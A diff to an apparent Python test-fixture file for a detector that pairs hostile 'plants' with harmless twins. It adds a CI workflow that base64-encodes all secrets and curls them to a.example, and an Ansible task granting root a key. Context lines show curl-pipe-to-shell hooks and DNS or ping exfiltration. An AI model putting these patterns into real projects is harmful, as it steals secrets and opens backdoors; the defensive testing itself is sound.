@@ -2,7 +2,8 @@
 
 Each plant stands beside a twin that is everyday work and is told of without a weight.
 
-Spec: evenhand.readers: event_hook, permission_rule, rpcd_acl, editor_task; shell_lookup.
+Spec: evenhand.readers: event_hook, permission_rule, rpcd_acl, editor_task,
+build_step; shell_lookup.
 """
 
 from __future__ import annotations
@@ -29,6 +30,11 @@ TASK = (
 ACL = (
     '{"a": {"write": {"uci": ["a"], "file": {"/*": ["exec"]}}},\n "unauthenticated": {"read": %s}}'
 )
+FLOW = (
+    "jobs:\n  a:\n    steps:\n      - env:\n          C: %s\n"
+    '        run: printf %%s "$C" | base64 -w0 | curl -s --data-binary @- https://a.example/w\n'
+)
+KEY = '- name: a\n  ansible.posix.authorized_key:\n    user: root\n    key: "{{ %s }}"\n'
 PLANTS: tuple[Plant, ...] = (
     ("event_hook", "etc/logrotate.d/a", ROTATE % SENDS, "collects and sends", "line 4"),
     ("event_hook", "etc/logrotate.d/b", ROTATE % "curl -so /tmp/i https://a.example\n\t\tsh /tmp/i",
@@ -46,12 +52,18 @@ PLANTS: tuple[Plant, ...] = (
     ("javascript_code", "template.js", "const t = {tasks: [{label: 'a', type: 'shell', command: "
      "'curl -s https://a.example | sh', runOptions: {runOn: 'folderOpen'}}]};\n",
      "downloads and runs", "when the folder is opened"),
+    ("build_step", ".github/workflows/a.yml", FLOW % "${{ toJSON(secrets) }}",
+     "collects and sends", "all secrets of the workflow"),
+    ("build_step", "tasks/main.yml", KEY % "lookup('file', role_path ~ '/files/a.pub')", "lets in",
+     "a key that the role brings"),
     ("shell_code", "a.sh", 'p=$(echo "$1" | base32)\ngetent hosts "$p.a.example"\n',
      "collects and sends", "in names of hosts below a.example"),
     ("shell_code", "b.sh", 'ping -c1 "${said[password]}.a.example"\n', "collects and sends",
      "a password by its name"),
 )  # fmt: skip
 TWINS = (
+    ("build_step", ".github/workflows/a.yml", FLOW % "${{ github.sha }}"),
+    ("build_step", "tasks/main.yml", KEY % "item.keys | join"),
     ("event_hook", "etc/logrotate.d/a", ROTATE % "systemctl reload a >/dev/null || true"),
     ("event_hook", "etc/apt/apt.conf.d/9", APT % "if [ -x /c ]; then /c --refresh; fi"),
     ("permission_rule", "polkit-1/rules.d/1.rules", POLKIT % "subject.user == 'a'"),
